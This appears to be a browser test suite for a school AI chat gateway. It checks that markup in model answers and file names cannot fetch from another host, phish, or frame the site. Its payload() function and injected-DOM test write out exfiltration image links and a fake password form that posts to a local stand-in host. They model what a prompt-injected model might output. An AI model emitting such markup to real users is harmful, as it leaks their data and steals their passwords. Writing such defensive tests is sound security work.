"""Markup in answers and file names cannot make a student's browser fetch from elsewhere or show a form, and no
other page can frame the gateway: a real Chromium, logged in, against the real stack.

The "host on the internet" is a small HTTP server on 127.0.0.2 (another loopback address, so another origin and
another site for the browser): it records every request it gets, and serves a page that frames the gateway.
"""

from __future__ import annotations

import http.server
import ssl
import subprocess
import threading
from collections.abc import Iterator
from urllib.parse import urlparse

import httpx
import pytest

from tests.browser.test_gateway_browser import CHROMIUM, LAUNCH_ARGS, log_in, shoot, sync_api
from tests.conftest import free_port, shared_tls
from tests.gateway_stack import running_stack, stack_config
from tests.service_support import wait_until

ELSEWHERE = "127.0.0.2"


def ssl_context() -> ssl.SSLContext:
    return ssl.create_default_context(cafile=str(shared_tls().ca_file))


class Elsewhere(http.server.ThreadingHTTPServer):
    """A web server of another site: records what it is asked for, and serves /frame.html, which frames a target."""

    def __init__(self, frame_target: str) -> None:
        self.requests: list[str] = []
        self.frame_target = frame_target
        super().__init__((ELSEWHERE, free_port()), _Handler)

    @property
    def base(self) -> str:
        return f"http://{ELSEWHERE}:{self.server_address[1]}"


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        if self.path == "/frame.html":
            page = f'<!doctype html><title>fremd</title><iframe id="victim" src="{self.server.frame_target}" width=900 height=600></iframe>'
            body = page.encode()
            self.send_response(200)
            self.send_header("content-type", "text/html; charset=utf-8")
        else:
            if self.path != "/favicon.ico":  # what Chromium asks of the site whose frame.html it shows
                self.server.requests.append(self.path)
            body = b"GIF89a"
            self.send_response(200)
            self.send_header("content-type", "image/gif")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *args) -> None:
        pass


def payload(base: str, label: str) -> str:
    """Every way of loading from elsewhere the issue found: a Markdown image, <img srcset>, <video poster>, SVG
    <image> and a form that sends a password out, all pointing at the other host."""
    return (
        f"Hier ist die Antwort. ![bild]({base}/exfil-md?q={label}-meine-frage)\n\n"
        f'<img src="{base}/exfil-img?q={label}" srcset="{base}/exfil-srcset?q={label} 1x">\n\n'
        f'<video poster="{base}/exfil-poster?q={label}"></video>\n\n'
        f'<svg width="10" height="10"><image href="{base}/exfil-svg?q={label}" width="10" height="10"/></svg>\n\n'
        f'<form action="{base}/steal" method="post"><p>Sitzung abgelaufen</p>'
        f'<input name="passwort" type="password"><button type="submit">Anmelden</button></form>\n\n'
        "Ende der Antwort."
    )


@pytest.fixture(scope="module")
def browser():
    """Chromium as in test_gateway_browser, with a fake microphone that the page may use, to record as a student would."""
    with sync_api.sync_playwright() as playwright:
        trust = f"--ignore-certificate-errors-spki-list={shared_tls().spki_sha256}"
        fake_microphone = ["--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream"]
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=[*LAUNCH_ARGS, trust, *fake_microphone])
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    folder = tmp_path_factory.mktemp("gateway")
    config = stack_config(folder)
    with running_stack(folder, services=("inference", "embeddings", "retrieval"), config=config) as running:
        yield running


@pytest.fixture(scope="module")
def elsewhere(stack) -> Iterator[Elsewhere]:
    server = Elsewhere(stack.url + "/")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture()
def page(browser, stack):
    context = browser.new_context(locale="de-DE", viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(90_000)
    page.hosts = []
    page.policy_violations = []
    page.on("request", lambda request: page.hosts.append(urlparse(request.url).hostname))
    page.on("console", lambda message: page.policy_violations.append(message.text) if "Content Security Policy" in message.text else None)
    yield page
    context.close()


def assert_nothing_from_elsewhere(page, elsewhere: Elsewhere, box: str) -> None:
    page.wait_for_timeout(1500)  # what the browser would fetch for the box, it asks for as soon as the box is shown
    assert ELSEWHERE not in page.hosts, page.hosts
    assert elsewhere.requests == []
    assert page.locator(f"{box} form, {box} input[name=passwort]").count() == 0
    for attribute in ("src", "srcset", "poster", "href", "action"):
        assert page.locator(f'{box} [{attribute}*="{ELSEWHERE}"]').count() == 0, attribute


def test_an_answer_with_remote_images_and_a_form_fetches_nothing(page, stack, elsewhere):
    """A stored chat whose answer holds the markup (as a model quoting a planted page would write it) is opened."""
    student = stack.add_user("safety-lea", "student", ("7a",))
    stack.gateway.accounts.save_chat(
        student.account.id,
        None,
        [{"role": "user", "content": "Meine Frage"}, {"role": "assistant", "content": payload(elsewhere.base, "chat")}],
    )
    log_in(page, stack, "safety-lea", student.password)
    page.get_by_text("Gespeicherte Chats").first.click()
    page.click("#saved-chats input")
    page.get_by_role("option", name="Meine Frage").click()
    page.get_by_role("button", name="Öffnen", exact=True).click()
    page.wait_for_selector("#chatbot >> text=Ende der Antwort")
    assert "Sitzung abgelaufen" not in page.inner_text("#chatbot")
    assert "[bild]" in page.inner_text("#chatbot")  # the image's description stays, as text
    assert_nothing_from_elsewhere(page, elsewhere, "#chatbot")
    assert page.policy_violations == []  # the page itself needs nothing the policy forbids
    shoot(page, "sicher-chat")


def test_a_document_name_with_markup_is_shown_as_text_in_the_sources(page, stack, elsewhere):
    """A file name that carries a form and images, in "Quellen" under a document answer; the document's text too."""
    student = stack.add_user("safety-mia", "student", ("7a",))
    slash = "&#47;"  # a file name cannot hold "/", an HTML attribute decodes this to one
    remote = elsewhere.base.replace("/", slash)
    name = (  # at most 255 characters, as the API keeps them
        # no "</…>": the API keeps only what follows a file name's last "/"; browsers close the tags themselves
        f"<form action={remote}{slash}s><input name=passwort><button>Anmelden<img src={remote}{slash}i>"
        f"<video poster={remote}{slash}p> ![n]({remote}{slash}m) **fett**.txt"
    )
    assert len(name) <= 255
    text = "Der Quetzalberg ist 2417 Meter hoch.\n\n" + payload(elsewhere.base, "doc")
    # Through the API, as a teacher's script would add it: the name is kept as sent (Gradio's upload strips "<>:*!").
    store = f"vs_{student.account.own_workspace}"
    with httpx.Client(
        base_url=stack.url + "/v1", verify=ssl_context(), timeout=120, headers={"Authorization": f"Bearer {student.api_key}"}
    ) as api:
        sent = api.post("/files", data={"purpose": "assistants"}, files={"file": (name, text.encode(), "text/plain")})
        assert sent.status_code == 200, sent.text
        added = api.post(f"/vector_stores/{store}/files", json={"file_id": sent.json()["id"]})
        assert added.status_code == 200, added.text
        file_url = f"/vector_stores/{store}/files/{sent.json()['id']}"
        wait_until(lambda: api.get(file_url).json()["status"] != "in_progress", 120, "the ingest")
        ingested = api.get(file_url).json()
        assert ingested["status"] == "completed", ingested.get("last_error")
    log_in(page, stack, "safety-mia", student.password)
    page.get_by_role("tab", name="Dokumente").click()
    page.fill("#document-question textarea", "Wie hoch ist der Quetzalberg?")
    page.click("#document-ask")
    page.wait_for_selector("#document-answer >> text=Quellen")
    shown = page.inner_text("#document-answer")
    # The name appears exactly as written: tags and Markdown as characters, nothing rendered
    assert f"{name}" in shown.replace("\n", " "), shown
    assert page.locator("#document-answer strong", has_text="fett").count() == 0
    assert_nothing_from_elsewhere(page, elsewhere, "#document-answer")
    assert_nothing_from_elsewhere(page, elsewhere, "#document-list")
    assert page.policy_violations == []
    shoot(page, "sicher-quellen")


def test_no_other_site_can_frame_the_admin_ui(page, stack, elsewhere):
    admin = stack.add_user("safety-admin", "admin")
    log_in(page, stack, "safety-admin", admin.password)
    page.goto(elsewhere.base + "/frame.html")
    page.wait_for_timeout(3000)
    frame = next(frame for frame in page.frames if frame != page.main_frame)
    # Chromium replaces a refused frame by its error page: nothing of the gateway is in it
    assert frame.url.startswith("chrome-error://") or frame.url == "about:blank", frame.url
    assert frame.locator("gradio-app, #name, form").count() == 0


def test_the_policy_alone_stops_markup_that_slipped_through(page, stack, elsewhere):
    """The second wall: markup put straight into the logged-in page, past the sanitising, still fetches and sends nothing."""
    student = stack.add_user("safety-ben", "student", ("7a",))
    log_in(page, stack, "safety-ben", student.password)
    page.evaluate(
        """base => {
            const box = document.createElement('div');
            box.id = 'slipped';
            box.innerHTML = `<img src="${base}/csp-img"><img srcset="${base}/csp-srcset 1x"><video poster="${base}/csp-poster"></video>
                <svg><image href="${base}/csp-svg" width="5" height="5"/></svg><audio src="${base}/csp-audio" autoplay></audio>
                <form id="slipped-form" action="${base}/csp-form" method="post"><input name="passwort" value="geheim"></form>`;
            document.body.appendChild(box);
            fetch(`${base}/csp-fetch`).catch(() => {});
            document.getElementById('slipped-form').submit();
        }""",
        elsewhere.base,
    )
    page.wait_for_timeout(2500)
    assert elsewhere.requests == []
    assert "safety" not in page.url and page.url.startswith(stack.url)  # the form did not leave the page
    assert any("img-src" in text for text in page.policy_violations), page.policy_violations
    assert any("form-action" in text for text in page.policy_violations), page.policy_violations


def test_the_page_works_under_its_policy(browser, stack, tmp_path):
    """Chat, every tab, a recording picked and one made with the microphone, and the English page: the policy
    refuses nothing the page itself needs (each refusal is logged to the console)."""
    student = stack.add_user("safety-tom", "teacher", ("7a",))
    # Gradio's own labels (Play, Record audio) follow the browser's language; schulki's follow the path
    context = browser.new_context(locale="en-US", permissions=["microphone"], viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(90_000)
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None)
    try:
        log_in(page, stack, "safety-tom", student.password)
        page.fill("#chat-input textarea", "Hallo!")
        page.keyboard.press("Enter")
        page.wait_for_function("() => (document.querySelector('#chatbot .bot')?.innerText || '').trim().length > 0")
        for tab in ("Dokumente", "Übersetzen", "Transkription"):
            page.get_by_role("tab", name=tab).click()
        speech = tmp_path / "kurz.wav"
        subprocess.run(["espeak-ng", "-v", "de", "-w", str(speech), "Guten Morgen."], check=True)
        page.set_input_files("#recording input[type=file]", str(speech))
        page.wait_for_selector("#recording button[aria-label=Play]", state="attached")
        page.click("#recording button[aria-label=Clear]")
        page.click("#recording button[aria-label='Record audio']")
        page.locator("#recording button", has_text="Record").first.click()
        page.wait_for_timeout(2000)
        page.locator("#recording button", has_text="Stop").first.click()
        page.wait_for_selector("#recording button[aria-label=Play]", state="attached")
        page.wait_for_timeout(1000)
        page.goto(stack.url + "/en/")
        page.wait_for_selector("#header >> text=Logged in as")
    finally:
        context.close()
    assert violations == []
